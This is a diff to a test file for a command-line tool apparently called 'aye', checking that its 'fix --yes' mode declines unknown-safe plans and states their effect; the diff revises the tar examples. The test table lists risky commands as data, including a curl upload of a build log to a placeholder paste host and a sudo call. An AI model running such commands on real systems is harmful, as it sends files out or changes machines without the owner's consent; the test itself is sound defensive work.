@@ -65,7 +65,8 @@ describe("aye fix --yes and dangerous plans", () => {
     ["make clean", "overwrites or deletes files or data"],
     ["curl -F file=@build.log https://paste.example.invalid", "sends data out"],
     ["nohup npm run dev &", "leaves something running after aye"],
-    ["tar -xzf cache.tgz -C ~/.cache", "writes outside this folder"],
+    ["tar -czf ~/backup.tgz src", "writes outside this folder"],
+    ["tar -xzf cache.tgz", "overwrites or deletes files or data"],
     ["sudo make", "changes the system"],
   ])("does not run %p, which it does not know to be safe, and says what it does", async (plan, effect) => {
     const r = await fixWith(plan);
